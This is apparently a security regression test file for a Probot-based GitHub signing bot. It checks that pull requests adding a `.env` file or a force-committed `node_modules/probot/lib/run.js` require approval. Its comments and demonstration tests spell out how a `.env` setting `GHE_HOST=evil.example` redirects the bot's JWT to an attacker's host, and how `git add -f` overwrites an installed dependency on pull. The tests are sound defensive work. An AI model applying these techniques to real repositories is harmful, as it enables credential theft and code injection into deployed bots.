import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import nock from "nock";
import { afterEach, expect, it } from "vitest";
import { isCodePath } from "../../src/core/tree/is-code-path.js";
import { pullRequestScenario } from "../helpers/pull-request-scenario.js";
import { useRepo } from "../helpers/use-repo.js";

const { ids, repo } = useRepo();
afterEach(() => nock.cleanAll());

/**
 * The attack (writer or fork author + a writer to merge): `npm start` runs Probot's `run()`, which
 * reads `<cwd>/.env` and Object.assign()s it over process.env (it OVERRIDES the operator's
 * variables). A committed `.env` is neither managed nor a code path, so the `kaws` check is green
 * with no approval at all. `GHE_HOST=evil.example` then sends the app's JWT (and every API call,
 * including the "proofs" of approval the bot trusts before signing with the CA key) to the attacker.
 */
it("treats a PR adding .env (read by Probot over the operator's environment) as a code change", async () => {
  const s = await pullRequestScenario(ids(), repo(), {
    files: { ".env": "GHE_HOST=evil.example\nGHE_PROTOCOL=https\nWEBHOOK_SECRET=known-to-mallory\n" },
  });
  try {
    await s.open(s.minutes(0));
    expect(isCodePath(".env")).toBe(true);
    expect(s.verdict()!.conclusion).toBe("action_required");
    expect(s.verdict()!.output?.title).toContain("Changes code that runs with the bot's key");
  } finally {
    await s.stop();
  }
});

it("(why it matters) Probot's run() lets a .env in the working directory override the environment", async () => {
  const { applyEnv } = (await import(
    // Probot's internal helper, the one run() calls first
    "../../node_modules/probot/lib/helpers/apply-env.js"
  )) as { applyEnv: (o: { path: string }) => void };
  const dir = mkdtempSync(join(tmpdir(), "kaws-dotenv-"));
  writeFileSync(join(dir, ".env"), "GHE_HOST=evil.example\n");
  const before = process.env.GHE_HOST;
  process.env.GHE_HOST = "github.example.com"; // what the operator set
  try {
    applyEnv({ path: join(dir, ".env") });
    expect(process.env.GHE_HOST).toBe("evil.example");
  } finally {
    if (before === undefined) delete process.env.GHE_HOST;
    else process.env.GHE_HOST = before;
  }
});

/**
 * The attack (same class): files under the git-ignored node_modules/ can still be committed
 * (`git add -f`), are not code paths, and a `git pull` on a host that runs the bot from a checkout
 * silently OVERWRITES the installed, ignored files with them (git treats ignored files as expendable).
 */
it("treats a PR committing node_modules/probot/lib/run.js as a code change", async () => {
  const s = await pullRequestScenario(ids(), repo(), {
    files: { "node_modules/probot/lib/run.js": "export async function run() { /* mallory's code */ }\n" },
  });
  try {
    await s.open(s.minutes(0));
    expect(isCodePath("node_modules/probot/lib/run.js")).toBe(true);
    expect(s.verdict()!.conclusion).toBe("action_required");
  } finally {
    await s.stop();
  }
});

it("(why it matters) git pull overwrites an ignored, installed node_modules file with the committed one", () => {
  const dir = mkdtempSync(join(tmpdir(), "kaws-ignored-"));
  const git = (cwd: string, ...args: string[]) =>
    execFileSync(
      "git",
      ["-c", "user.email=x@x", "-c", "user.name=x", "-c", "init.defaultBranch=main", ...args],
      {
        cwd,
        stdio: "pipe",
      },
    ).toString();
  const origin = join(dir, "origin");
  mkdirSync(origin);
  git(origin, "init", "-q");
  writeFileSync(join(origin, ".gitignore"), "node_modules/\n");
  git(origin, "add", ".gitignore");
  git(origin, "commit", "-qm", "base");
  git(dir, "clone", "-q", origin, "deploy");
  const deploy = join(dir, "deploy");
  mkdirSync(join(deploy, "node_modules/probot/lib"), { recursive: true });
  writeFileSync(join(deploy, "node_modules/probot/lib/run.js"), "// installed by npm ci\n");
  // the merged PR (kaws check green, no approval)
  mkdirSync(join(origin, "node_modules/probot/lib"), { recursive: true });
  writeFileSync(join(origin, "node_modules/probot/lib/run.js"), "// mallory\n");
  git(origin, "add", "-f", "node_modules/probot/lib/run.js");
  git(origin, "commit", "-qm", "docs: typo");
  git(deploy, "pull", "-q", "--ff-only");
  expect(readFileSync(join(deploy, "node_modules/probot/lib/run.js"), "utf8")).toBe("// mallory\n");
});
